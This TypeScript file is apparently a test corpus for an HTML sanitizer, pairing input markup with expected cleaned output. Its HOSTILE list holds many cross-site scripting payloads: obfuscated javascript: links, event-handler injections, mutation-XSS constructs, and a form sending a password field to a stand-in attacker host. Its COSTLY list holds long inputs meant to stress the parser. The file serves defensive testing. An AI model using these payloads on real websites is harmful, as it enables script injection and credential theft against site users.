/** Markup, and what a server makes of it. */
type CorpusRow = readonly [html: string, clean: string]

/** What a browser makes of it, where its parser reads it differently. */
export const IN_BROWSER: Readonly<Record<string, string>> = {
  '</p>x</div>': 'x',
  '<![CDATA[<img src=x onerror=alert(1)>]]>x': ']]&gt;x',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">': '<p></p>',
}

export const HARMLESS: readonly CorpusRow[] = [
  ['<p>Half <b>price</b></p>', '<p>Half <b>price</b></p>'],
  ['<P CLASS=warm>x', '<p class="warm">x</p>'],
  ['a &amp; b &lt; c &eacute; & d', 'a &amp; b &lt; c é &amp; d'],
  ['1 < 2 > 0', '1 &lt; 2 &gt; 0'],
  ['<a href="/x?a=1&amp;b=2">y</a>', '<a href="/x?a=1&amp;b=2">y</a>'],
  [
    '<a href="https://x.test" target=_top>y</a>',
    '<a href="https://x.test" target="_blank" rel="noopener">y</a>',
  ],
  ['<img src="/a.png" alt="A lamp" width="40">', '<img alt="A lamp" src="/a.png" width="40" />'],
  ['<br/><hr>', '<br /><hr />'],
  ['<ul><li>a<li>b</ul>c', '<ul><li>a</li><li>b</li></ul>c'],
  ['</p>x</div>', '<p></p>x'],
  ['<button onclick="alert(1)">x</button>', 'x'],
  [
    '<button type=submit formaction="//evil.test" data-ff-popup="close" class="a">x</button>y',
    '<button data-ff-popup="close" class="a" type="button">x</button>y',
  ],
  [
    '<a target=_top data-ff-popup="never">x</a>y',
    '<button data-ff-popup="never" type="button">x</button>y',
  ],
  ['<a href="/x" data-ff-popup="close">x</a>', '<a href="/x" data-ff-popup="close">x</a>'],
  [
    '<a data-ff-popup="open:lamps" data-ff-convert>x</a>',
    '<button data-ff-popup="open:lamps" data-ff-convert type="button">x</button>',
  ],
  [
    '<p style="color: #b3541e; text-align:center">x</p>',
    '<p style="color:#b3541e;text-align:center">x</p>',
  ],
  ['<p style="width:calc(100% - 2px)">x</p>', '<p style="width:calc(100% - 2px)">x</p>'],
  ['<a href="mailto:shop@x.test">x</a>', '<a href="mailto:shop@x.test">x</a>'],
  ['<a href="tel:+43123">x</a>', '<a href="tel:+43123">x</a>'],
]

export const HOSTILE: readonly CorpusRow[] = [
  // Judged as a relative address with the NUL in it, written without it.
  ['<a href="java\0script:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java&#0;script:alert(1)">x</a>', '<a href="java\ufffdscript:alert(1)">x</a>'],
  ['<a href="\0javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java\u0001script:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="\u0001javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a hr\0ef="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<img src="x" on\0error="alert(1)">', '<img alt="" src="x" />'],
  ['<p style="col\0or:expression(alert(1))">x</p>', '<p>x</p>'],
  ['<p class="ff\0-popup">x</p>', '<p>x</p>'],
  ['<script>alert(1)</script>x', 'x'],
  ['<script>alert(1)</script >x', 'x'],
  ['<script>alert(1)</script\n>x', 'x'],
  ['<script>alert(1)', ''],
  ['<style>p{}</style><p>x</p>', '<p>x</p>'],
  ['<svg><script>alert(1)</script><a href="javascript:1"></a></svg>x', 'x'],
  ['<svg onload=alert(1)>x', ''],
  ['<math><mtext></mtext></math>x', 'x'],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '',
  ],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', 'x'],
  ['<iframe src="javascript:alert(1)"></iframe>x', 'x'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['<form action="https://evil.test"><input name=password></form>', ''],
  ['<p onclick="alert(1)" ONERROR=alert(1)>x</p>', '<p>x</p>'],
  ['<p/onclick=alert(1)>x</p>', '<p>x</p>'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href=" jAvAsCrIpT:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="java&#10;script:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript&colon;alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#x6A;avascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="vbscript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,x">x</a>', '<a>x</a>'],
  ['<img src="data:image/svg+xml,x">', '<img alt="" />'],
  ['<img src=x onerror="alert(1)">', '<img alt="" src="x" />'],
  ['<img """><script>alert(1)</script>">', '<img alt="" />"&gt;'],
  ['<details open ontoggle=alert(1)>x</details>', '<details open>x</details>'],
  ['<p style="position:fixed;inset:0">x</p>', '<p>x</p>'],
  ['<p style="background-color:url(https://evil.test)">x</p>', '<p>x</p>'],
  ['<p style="color:expression(alert(1))">x</p>', '<p>x</p>'],
  ['<p style="margin-top:-900px">x</p>', '<p>x</p>'],
  ['<p style="color:red\\9">x</p>', '<p>x</p>'],
  ['<p style="color:var(--_text)">x</p>', '<p>x</p>'],
  ['<p class="ff-popup warm FF-form">x</p>', '<p class="warm">x</p>'],
  ['<p id="footfall" name="x">x</p>', '<p>x</p>'],
  ['<p data-footfall-widget="form" data-x="1">x</p>', '<p>x</p>'],
  ['<a data-ff-popup="open:&quot;x">x</a>', '<a>x</a>'],
  ['<!-- <script>alert(1)</script> -->x', 'x'],
  ['<!--><script>alert(1)</script>', ''],
  ['<![CDATA[<img src=x onerror=alert(1)>]]>x', 'x'],
  ['<?php echo 1 ?>x', 'x'],
  ['<p title="a>b<c">x</p>', '<p title="a&gt;b&lt;c">x</p>'],
  [
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
  ],
  ['<template><img src=x onerror=alert(1)></template>x', 'x'],
  ['<sc\0ript>alert(1)</sc\0ript>', ''],
  ['<object data="x"><p>y</p></object>x', 'x'],
  ['<link rel=stylesheet href=//evil.test><meta http-equiv=refresh><base href=//evil.test>x', 'x'],
  ['<p>x</p><a "<b>" y', '<p>x</p><a>" y</a>'],
]

const LONG = 20_000

/** Each of the largest size that is read. */
export const COSTLY: readonly (readonly [string, string])[] = [
  ...[
    ...['<a "', '<p>', '<script', '<!--', '&', "<a b='", '</script', "<''", "<a''", "</'>'"],
    ...["<a'>'", '<a', '</a', '<a ', '<a =', '<a b=', '<svg>', '<svg></svg', '<?', '"<', '\'<"'],
    ...['<a href="&#x', '<b>', '<div>', '<iframe>', '<noscript>', '<table>', '<a href=x>'],
  ].flatMap((one): [string, string][] => {
    const html = one.repeat(Math.ceil(LONG / one.length))
    return [
      [`${one} again and again`, html],
      [`${one} with an end`, `${html.slice(0, LONG - 1)}>`],
    ]
  }),
  ['a style', `<p style="color:x${' '.repeat(19_900)}x">`],
  ['a style’s name', `<p style="${'a'.repeat(19_900)}">`],
  ['spaces in a tag', `<p a${' '.repeat(19_900)}b>`],
  ['a class', `<p class="${' '.repeat(19_900)}x">`],
  ['an address', `<a href="${' '.repeat(19_900)}x">`],
]
